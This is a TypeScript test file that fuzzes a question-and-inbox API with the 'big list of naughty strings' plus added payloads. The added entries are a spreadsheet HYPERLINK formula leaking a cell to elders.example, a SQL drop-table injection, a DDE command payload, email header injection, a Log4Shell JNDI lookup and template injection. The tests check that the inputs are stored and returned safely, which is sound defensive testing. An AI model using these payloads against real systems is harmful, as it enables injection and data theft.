import naughty from 'big-list-of-naughty-strings';
import { describe, expect, it } from 'vitest';
import type { AgentQuestion, Conversation, InboxPage } from '../../../src/protocol/index';
import { receiverOfFile } from './receiverOfFile';
import { accepted, aPng, aSubmission, aWireQuestion, manifestOf, nextId, patch } from './wire';

/** The published list, and what it lacks. */
const LIST: readonly string[] = [
  ...(naughty as readonly string[]), // the package is a JSON file with texts
  '=HYPERLINK("https://elders.example/?"&A1,"klik")',
  "+31 6 12345678'; drop table question; --",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  'naam\r\nBcc: iedereen@elders.example',
  '\u202egpj.exe',
  'a\u200bb\u2060c\ufeffd',
  '${jndi:ldap://elders.example/a}',
  '{{constructor.constructor("alert(1)")()}}',
  '%s%n%x %00 %0d%0a',
  'a'.repeat(199),
].filter((text) => text.trim() !== '');
/** A database can't keep a NUL or half a pair: refused, see `requests.test.ts`. */
const KEPT = LIST.filter((text) => !/[\0\p{Surrogate}]/u.test(text));

/** A submission has twenty questions at most. */
const BUNDLES = Array.from({ length: Math.ceil(KEPT.length / 20) }, (_none, index) =>
  KEPT.slice(index * 20, index * 20 + 20),
);

const { receiver, sanne, noor } = await receiverOfFile();

/** A question in which every text that a person or an app may fill holds something naughty. */
const filled = (text: string) => {
  const short = [...text].slice(0, 50).join('');
  const at = '2024-03-12T09:00:00Z';
  return aWireQuestion({
    text,
    place: { label: short, route: short, element: short },
    client: { scope: 'one', ref: short },
    fields: { field: short },
    steps: [{ at, place: short, role: short, name: short, result: short }],
    errors: [{ at, kind: short, message: short, stack: [short] }],
    failedRequests: [{ at, method: 'GET', route: short, status: 500, durationMs: 1 }],
  });
};

describe('a naughty text', () => {
  it('comes in hundreds of kinds', () => expect(KEPT.length).toBeGreaterThan(300));

  it.each(BUNDLES)('goes through every field to the agent and back as it was: bundle %#', async (...texts) => {
    const questions = texts.map(filled);
    await accepted(receiver, sanne, aSubmission(sanne.owner, { questions }));
    for (const question of questions) {
      const open = await receiver.get(`/v1/agent/questions/${question.id}`, noor);
      expect(open.statusCode, question.text).toBe(200);
      expect(open.json<AgentQuestion>().question, question.text).toEqual(question);
    }
  });

  it('is in the list of the inbox and in no log', async () => {
    const { items } = (await receiver.get('/v1/agent/questions?filter=all', noor)).json<InboxPage>();
    expect(items.length).toBe(200);
    expect(receiver.logged.filter((line) => line.includes('"stack":["'))).toEqual([]);
    const log = receiver.logged.join('\n');
    expect(KEPT.filter((text) => text.length > 12 && log.includes(text))).toEqual([]);
  });

  it('goes through follow-ups and replies; the asker gets text, never a page', async () => {
    const { questions } = await accepted(receiver, sanne);
    const id = questions[0]?.id ?? '';
    const sample = KEPT.filter((_text, index) => index % 8 === 0);
    for (const text of sample) {
      const message = { schema: 1, owner: sanne.owner, text, attachments: [] };
      expect((await receiver.put(`/v1/questions/${id}/messages/${nextId()}`, sanne, message)).statusCode, text).toBe(
        201,
      );
      const reply = { text, status: 'needsInfo' };
      expect((await receiver.put(`/v1/agent/questions/${id}/replies/${nextId()}`, noor, reply)).statusCode, text).toBe(
        201,
      );
    }
    const answer = await receiver.get(`/v1/questions/${id}`, sanne);
    expect(answer.headers['content-type']).toContain('application/json');
    expect(answer.headers['x-content-type-options']).toBe('nosniff');
    expect(answer.json<Conversation>().messages).toHaveLength(1 + sample.length * 2);
    expect(
      hrefsIn(answer.json<Conversation>()).filter((href) => /^\s*(javascript|data|vbscript|file):/i.test(href)),
    ).toEqual([]);
  });

  it('as a name of a file breaks no header', async () => {
    for (const name of KEPT.filter((text) => text.length < 100).filter((_text, index) => index % 10 === 0)) {
      const picture = manifestOf(aPng(100), { name });
      await accepted(
        receiver,
        sanne,
        aSubmission(sanne.owner, { questions: [aWireQuestion({ attachments: [picture.id] })], attachments: [picture] }),
      );
      await patch(receiver, sanne, { id: picture.id, offset: 0, bytes: aPng(100) });
      const content = await receiver.get(`/v1/attachments/${picture.id}/content`, sanne);
      expect(content.statusCode, name).toBe(200);
      expect(String(content.headers['content-disposition']), name).toMatch(
        /^attachment; filename="[\w. -]*"; filename\*=UTF-8''[\w.!~*%-]*$/,
      );
    }
  });

  it('as a name of a person or an agent is a name, in tokens and in the access log', async () => {
    for (const name of KEPT.filter((text) => text.length < 100).filter((_text, index) => index % 10 === 0)) {
      const me = await receiver.get('/v1/me', await receiver.asker('p-sanne', { claims: { name } }));
      expect(me.json(), name).toMatchObject({ displayName: name });
      const token = await receiver.agent({ claims: { name } });
      await receiver.get('/v1/agent/questions?filter=all', { token });
      const [row] = await receiver.behind('select actor_name from access_log order by seq desc limit 1');
      expect(row).toEqual({ actor_name: name });
    }
    expect((await receiver.ports.store.checkAccesses()).sound).toBe(true);
  });
});

/** Every address in a conversation. */
function hrefsIn(value: unknown): readonly string[] {
  if (Array.isArray(value)) return value.flatMap(hrefsIn);
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, member]) => (key === 'href' ? [String(member)] : hrefsIn(member)));
}
